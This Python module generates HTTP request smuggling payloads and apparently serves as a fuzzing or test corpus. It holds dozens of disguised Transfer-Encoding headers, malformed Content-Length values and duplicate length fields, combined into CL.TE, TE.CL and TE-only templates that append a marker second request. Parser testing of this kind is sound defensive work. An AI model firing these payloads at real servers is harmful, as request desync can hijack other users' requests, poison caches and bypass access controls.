"""Requests whose body has two ends: every disguise of Transfer-Encoding and every odd
Content-Length, in the templates of the known smuggling attacks.
SPDX-License-Identifier: GPL-3.0-or-later
"""
from typing import Iterator

# Replaced by the payload's number, which has the same length.
ID = b"i00000x"
SMUGGLED = b"GET /smuggled-" + ID + b" HTTP/1.1\r\nHost: app\r\nx-id: " + ID + b"\r\n\r\n"
HEAD = b"POST /" + ID + b" HTTP/1.1\r\nHost: app\r\nx-id: " + ID + b"\r\n"
GET = HEAD.replace(b"POST", b"GET")

# What no field line and no name may hold, and what only some readers drop.
ODD_BYTES = [*range(0x00, 0x0a), 0x0b, 0x0c, *range(0x0e, 0x20), *range(0x7f, 0x100)]

TE = b"Transfer-Encoding"
DISGUISES = {
    "as it should be": TE + b": chunked",
    "without a space": TE + b":chunked",
    "two spaces": TE + b":  chunked",
    "tab before the value": TE + b":\tchunked",
    "tab after the value": TE + b": chunked\t",
    "space after the value": TE + b": chunked ",
    "space before the colon": TE + b" : chunked",
    "tab before the colon": TE + b"\t: chunked",
    "space before the name": b" " + TE + b": chunked",
    "tab before the name": b"\t" + TE + b": chunked",
    "folded value": TE + b":\r\n chunked",
    "value folded with a tab": TE + b":\r\n\tchunked",
    "folded name": b"Transfer-Encoding\r\n : chunked",
    "value that goes on": TE + b": chunked\r\n , identity",
    "behind a fold": b"X-A: b\r\n " + TE + b": chunked",
    "bare LF before": b"X-A: b\n" + TE + b": chunked",
    "bare CR before": b"X-A: b\r" + TE + b": chunked",
    "bare LF after": TE + b": chunked\nX-A: b",
    "bare CR after": TE + b": chunked\rX-A: b",
    "CR CR LF": TE + b": chunked\r",
    "bare LF in the value": TE + b":\n chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "no hyphen": b"TransferEncoding: chunked",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "mixed case": b"tRaNsFeR-eNcOdInG: cHuNkEd",
    "in quotes": TE + b': "chunked"',
    "in single quotes": TE + b": 'chunked'",
    "a list": TE + b": identity, chunked",
    "a list that ends otherwise": TE + b": chunked, identity",
    "twice in a list": TE + b": chunked, chunked",
    "an empty member first": TE + b": , chunked",
    "an empty member last": TE + b": chunked,",
    "a parameter": TE + b": chunked;q=1",
    "a prefix": TE + b": xchunked",
    "a suffix": TE + b": chunkedx",
    "cut short": TE + b": chunke",
    "identity": TE + b": identity",
    "gzip": TE + b": gzip, chunked",
    "compress": TE + b": compress",
    "empty": TE + b":",
    "two fields": TE + b": chunked\r\n" + TE + b": chunked",
    "two fields, one unknown": TE + b": chunked\r\n" + TE + b": x",
    "two fields, the first unknown": TE + b": x\r\n" + TE + b": chunked",
    "two fields, one empty": TE + b": chunked\r\n" + TE + b":",
    "named by Connection": b"Connection: transfer-encoding\r\n" + TE + b": chunked",
    "length named by Connection": b"Connection: close, Content-Length\r\n" + TE + b": chunked",
    "no colon": TE + b" chunked",
    "no name": b": chunked\r\n" + TE + b": chunked",
    "colon twice": TE + b":: chunked",
    "another name that ends so": b"X-" + TE + b": chunked",
    "another name that begins so": TE + b"-X: chunked",
    "long s": b"Tran\xc5\xbffer-Encoding: chunked",
    "Kelvin sign": TE + b": chun\xe2\x84\xaaed",
    "percent": TE + b": %63hunked",
    "NUL in the name": b"Transfer\x00-Encoding: chunked",
    "two lines in one": b"X-A: b\r\n\r\n" + TE + b": chunked",
}


def disguises() -> Iterator[tuple[str, bytes]]:
    yield from DISGUISES.items()
    for byte in ODD_BYTES:
        odd = bytes([byte])
        yield f"0x{byte:02x} before the value", TE + b":" + odd + b"chunked"
        yield f"0x{byte:02x} after the value", TE + b": chunked" + odd
        yield f"0x{byte:02x} before the colon", TE + odd + b": chunked"
        yield f"0x{byte:02x} before the name", odd + TE + b": chunked"


def cl_te(gadget: bytes) -> bytes:
    """Whoever believes the length swallows the second request; others serve it."""
    body = b"0\r\n\r\n" + SMUGGLED
    return HEAD + b"Content-Length: %d\r\n" % len(body) + gadget + b"\r\n\r\n" + body


def te_cl(gadget: bytes) -> bytes:
    """Whoever believes the coding swallows the second request."""
    size = b"%x\r\n" % len(SMUGGLED)
    return HEAD + gadget + b"\r\nContent-Length: %d\r\n\r\n" % len(size) + size + SMUGGLED + \
        b"\r\n0\r\n\r\n"


def te_alone(gadget: bytes) -> bytes:
    """Whoever misses the coding sees a request without a body and another one behind it."""
    size = b"%x\r\n" % len(SMUGGLED)
    return HEAD + gadget + b"\r\n\r\n" + size + SMUGGLED + b"\r\n0\r\n\r\n"


def te_in_1_0(gadget: bytes) -> bytes:
    return te_alone(gadget).replace(b"HTTP/1.1\r\n", b"HTTP/1.0\r\n", 1)


LENGTHS = {
    "plus sign": b"+5", "minus sign": b"-5", "minus zero": b"-0", "hexadecimal": b"0x5",
    "octal": b"0o5", "underscore": b"1_0", "decimal point": b"5.0", "exponent": b"5e0",
    "empty": b"", "in quotes": b'"5"', "letters": b"five", "list": b"5, 5", "other list": b"5, 6",
    "list without a space": b"5,5", "empty member": b"5,", "leading comma": b",5",
    "space within": b"5 5", "tab within": b"5\t5", "semicolon": b"5;q=1", "two to the 63rd":
    b"9223372036854775808", "two to the 64th": b"18446744073709551616", "five above 2^64":
    b"18446744073709551621", "very long": b"9" * 400, "NUL": b"5\x00", "vertical tab": b"\x0b5",
    "form feed": b"5\x0c", "no-break space": b"\xa05", "full-width digit": b"\xef\xbc\x95",
    "Arabic digit": b"\xd9\xa5", "bare CR": b"5\r", "bare LF": b"5\nX-A: b", "folded": b"\r\n 5",
    "folded further": b"5\r\n 0", "letter behind": b"5a", "chunked": b"chunked",
}
FIELDS_OF_LENGTH = {
    "the same twice": b"Content-Length: 5\r\nContent-Length: 5",
    "two different ones": b"Content-Length: 5\r\nContent-Length: 0",
    "the greater first": b"Content-Length: 50\r\nContent-Length: 5",
    "one empty": b"Content-Length: 5\r\nContent-Length:",
    "one invalid": b"Content-Length: 5\r\nContent-Length: x",
    "different cases": b"Content-Length: 5\r\ncontent-length: 0",
    "underscore": b"Content_Length: 5",
    "underscore beside the right one": b"Content-Length: 5\r\nContent_Length: 0",
    "space before the colon": b"Content-Length : 5",
    "tab before the colon": b"Content-Length\t: 5",
    "space before the name": b" Content-Length: 5",
    "named by Connection": b"Content-Length: 5\r\nConnection: content-length",
    "named by Connection with others": b"Connection: close, Content-Length\r\nContent-Length: 5",
    "NUL before the colon": b"Content-Length\x00: 5",
    "no colon": b"Content-Length 5",
    "behind a bare LF": b"X-A: b\nContent-Length: 5",
    "behind a bare CR": b"X-A: b\rContent-Length: 5",
    "in a fold": b"X-A: b\r\n Content-Length: 5",
}


def payloads() -> Iterator[tuple[str, bytes]]:
    for name, gadget in disguises():
        yield f"CL.TE, {name}", cl_te(gadget)
        yield f"TE.CL, {name}", te_cl(gadget)
    for name, gadget in DISGUISES.items():
        yield f"TE alone, {name}", te_alone(gadget)
        yield f"TE in HTTP/1.0, {name}", te_in_1_0(gadget)
    for name, value in LENGTHS.items():
        for method in (b"POST", b"GET"):
            yield f"length of {method.decode()}, {name}", \
                HEAD.replace(b"POST", method) + b"Content-Length: " + value + b"\r\n\r\nhello" + \
                SMUGGLED
    for name, gadget in FIELDS_OF_LENGTH.items():
        yield f"length, {name}", HEAD + gadget + b"\r\n\r\nhello" + SMUGGLED
    yield "a length and no body", HEAD + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED
    yield "a length above what comes", HEAD + b"Content-Length: 1000\r\n\r\n" + SMUGGLED
    yield "a length of zero", HEAD + b"Content-Length: 0\r\n\r\n" + SMUGGLED
